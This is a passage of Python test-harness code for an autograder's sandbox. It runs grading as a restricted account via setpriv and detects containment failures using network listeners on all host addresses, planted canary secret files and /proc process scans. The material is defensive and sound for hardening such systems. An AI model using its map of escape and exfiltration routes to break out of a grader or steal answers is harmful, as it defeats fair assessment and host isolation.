                student = line.split(",", 1)[0]
                self.row_seen.setdefault(student, now)
            self._stop_event.wait(self.interval)

    def stop(self) -> None:
        self._stop_event.set()
        self.join()


class PendingRun:
    """A grading run in progress (its output goes to files, so nothing blocks on a full pipe)."""

    def __init__(
        self, grader, course: Path, options, command: list[str], env: dict[str, str], timeline, notebook_id
    ):
        self.grader, self.course, self.options, self.timeline = grader, course, options, timeline
        self.assignment, self.notebook = notebook_id
        self.stdout = tempfile.TemporaryFile(mode="w+")
        self.stderr = tempfile.TemporaryFile(mode="w+")
        self.started = time.monotonic()
        if timeline is not None:
            timeline.started_at = self.started
            timeline.start()
        self.process = subprocess.Popen(
            command, cwd=course, env=env, stdout=self.stdout, stderr=self.stderr, start_new_session=True
        )

    def finish(self, timeout: float = 900) -> GradingRun:
        try:
            self.process.wait(timeout=timeout)
        finally:
            if self.process.poll() is None:
                os.killpg(self.process.pid, signal.SIGKILL)
                self.process.wait()
            if self.timeline is not None:
                self.timeline.stop()
        seconds = time.monotonic() - self.started
        self.stdout.seek(0)
        self.stderr.seek(0)
        csv_path = self.course / "autograded" / f"{self.assignment}.csv"
        rows = list(csv.DictReader(csv_path.open(newline=""))) if csv_path.exists() else []
        output = self.stdout.read(), self.stderr.read()
        run = GradingRun(
            self.course, self.process.returncode, *output, seconds, rows, self.assignment, self.notebook
        )
        self.stdout.close()
        self.stderr.close()
        self.grader.keep_for_report(run, self.options)
        return run


class Grader:
    """Runs ``python -m grading`` on a course folder as one account; returns what it wrote."""

    def __init__(self, variant: str, account: Account):
        self.variant, self.account = variant, account

    def __repr__(self) -> str:
        return f"Grader({self.variant}, {self.account.name})"

    def adopt(self, folder: Path) -> None:
        """Give ``folder`` to the grading account (only when switching to it)."""
        if not self.account.switch:
            return
        for path in [folder, *folder.rglob("*")]:
            os.lchown(path, self.account.uid, self.account.gid)

    def environment(self, extra: dict[str, str] | None = None) -> dict[str, str]:
        path = os.pathsep.join([os.path.dirname(sys.executable), "/usr/local/bin", "/usr/bin", "/bin"])
        env = {"PATH": path, "LANG": "C.UTF-8"}
        if not self.account.switch:
            env["HOME"] = os.environ.get("HOME", "/")
        env.update(extra or {})
        return env

    def command(self, arguments: list[str], env: dict[str, str]) -> list[str]:
        python = [sys.executable, *arguments]
        if not self.account.switch:
            return python
        setpriv = ["setpriv", f"--reuid={self.account.uid}", f"--regid={self.account.gid}", "--clear-groups"]
        return [*setpriv, "--reset-env", "env", *(f"{key}={value}" for key, value in env.items()), *python]

    def grade(
        self, course: Path, *options: str, env: dict[str, str] | None = None, timeline: Timeline | None = None
    ) -> GradingRun:
        return self.start(course, *options, env=env, timeline=timeline).finish()

    def start(
        self,
        course: Path,
        *options: str,
        env: dict[str, str] | None = None,
        timeline: Timeline | None = None,
        notebook_id: tuple[str, str] = (ASSIGNMENT, NOTEBOOK),
    ) -> PendingRun:
        """Start grading ``course``'s assignment ``notebook_id[0]`` (the tiny one unless given);
        :meth:`PendingRun.finish` waits for it."""
        self.adopt(course)
        environment = self.environment(env)
        arguments = ["-m", "grading", notebook_id[0], "--course", str(course), *options]
        command = self.command(arguments, environment)
        return PendingRun(self, course, options, command, environment, timeline, notebook_id)

    def keep_for_report(self, run: GradingRun, options) -> None:
        """With NNLIB_ATTACK_REPORT=path, append the run's rows to that JSON-lines file (for people)."""
        target = os.environ.get("NNLIB_ATTACK_REPORT")
        if not target:
            return
        entry = {"variant": self.variant, "options": list(options), "seconds": round(run.seconds, 1)}
        entry.update(returncode=run.returncode, rows=run.rows)
        with open(target, "a") as handle:
            handle.write(json.dumps(entry) + "\n")


def run_as(account: Account, *command: str, timeout: float = 120) -> subprocess.CompletedProcess:
    """Run a short command as ``account`` (through setpriv when switching)."""
    env = {"PATH": os.pathsep.join([os.path.dirname(sys.executable), "/usr/bin", "/bin"])}
    full = list(command)
    if account.switch:
        full = [
            "setpriv",
            f"--reuid={account.uid}",
            f"--regid={account.gid}",
            "--clear-groups",
            "--reset-env",
            "env",
            *(f"{key}={value}" for key, value in env.items()),
            *command,
        ]
    return subprocess.run(full, env=env, capture_output=True, text=True, timeout=timeout, cwd="/")


# --- the host -------------------------------------------------------------------------------------


def scratch_listing() -> dict[str, set[str]]:
    return {folder: set(os.listdir(folder)) for folder in SCRATCH_FOLDERS if os.path.isdir(folder)}


# What a grading run or a student could leave in a scratch folder. Other programs on the machine
# may create files there at any time, so only these names count.
LEFT_BY_GRADING = ("nnlib-sandbox-", "nnlib-site-", "nnlib-attack-", "zz_answers")


def left_behind(before: dict[str, set[str]], after: dict[str, set[str]]) -> list[str]:
    """Entries of the scratch folders that appeared between two listings and come from grading."""
    return sorted(
        os.path.join(folder, name)
        for folder, names in after.items()
        for name in names - before.get(folder, set())
        if any(part in name for part in LEFT_BY_GRADING)
    )


def processes_with(marker: str) -> list[str]:
    """The host's processes whose command line holds ``marker`` (pid and command line)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmdline and int(pid) != os.getpid():
            text = cmdline.replace(b"\0", b" ").decode(errors="replace")
            found.append(f"{pid}: {text[:200]}")
    return found


def kill_processes_with(marker: str) -> None:
    """Clean up after a failed containment (only processes carrying this test's marker)."""
    for entry in processes_with(marker):
        try:
            os.kill(int(entry.split(":", 1)[0]), signal.SIGKILL)
        except OSError:
            pass


def host_addresses() -> list[str]:
    """Addresses of this machine a sandboxed student might try: loopback, its hostname's, its route's."""
    addresses = ["127.0.0.1", "::1", socket.gethostname()]
    try:
        for info in socket.getaddrinfo(socket.gethostname(), None):
            addresses.append(info[4][0])
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing address
            addresses.append(probe.getsockname()[0])
    except OSError:
        pass
    return list(dict.fromkeys(address for address in addresses if address))


class Listeners:
    """A TCP and a UDP listener on every address of the host, and an abstract unix socket: who called?"""

    def __init__(self):
        self.received: list[str] = []
        self.sockets: list[socket.socket] = []
        self.tcp = self._bind(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 0))
        self.tcp_port = self.tcp.getsockname()[1]
        self.udp = self._bind(socket.AF_INET, socket.SOCK_DGRAM, ("0.0.0.0", 0))
        self.udp_port = self.udp.getsockname()[1]
        for kind, port in ((socket.SOCK_STREAM, self.tcp_port), (socket.SOCK_DGRAM, self.udp_port)):
            try:  # the same ports on IPv6, where the host has it
                self._bind(socket.AF_INET6, kind, ("::", port), v6only=True)
            except OSError:
                pass
        self.abstract = token("nnlib-attack-socket")
        self._bind(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + self.abstract)
        self._stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _bind(self, family, kind, address, v6only: bool = False) -> socket.socket:
        sock = socket.socket(family, kind)
        if v6only:
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        sock.bind(address)
        if kind == socket.SOCK_STREAM:
            sock.listen()
        sock.setblocking(False)
        self.sockets.append(sock)
        return sock

    def _serve(self) -> None:
        import selectors

        with selectors.DefaultSelector() as selector:
            for sock in self.sockets:
                selector.register(sock, selectors.EVENT_READ)
            while not self._stop.is_set():
                for key, _ in selector.select(timeout=0.2):
                    sock = key.fileobj
                    try:
                        if sock.type == socket.SOCK_STREAM:
                            connection, peer = sock.accept()
                            self.received.append(f"connection from {peer!r}")
                            connection.close()
                        else:
                            data, peer = sock.recvfrom(4096)
                            self.received.append(f"datagram {data[:60]!r} from {peer!r}")
                    except OSError:
                        continue

    def close(self) -> None:
        self._stop.set()
        self.thread.join()
        for sock in self.sockets:
            sock.close()


def plant_host_secrets(secret: str) -> list[Path]:
    """A world-readable file holding ``secret`` in each host scratch folder (named without the secret)."""
    name = token("nnlib-attack-planted")
    planted = []
    for folder in SCRATCH_FOLDERS:
        if os.path.isdir(folder) and os.access(folder, os.W_OK):
            path = Path(folder) / name
            path.write_text(f"the instructor's scratch file: {secret}\n")
            path.chmod(0o644)
            planted.append(path)
    return planted


def remove(paths) -> None:
    for path in paths:
        if os.path.islink(path) or os.path.isfile(path):
            os.unlink(path)
        elif os.path.isdir(path):
            shutil.rmtree(path, ignore_errors=True)
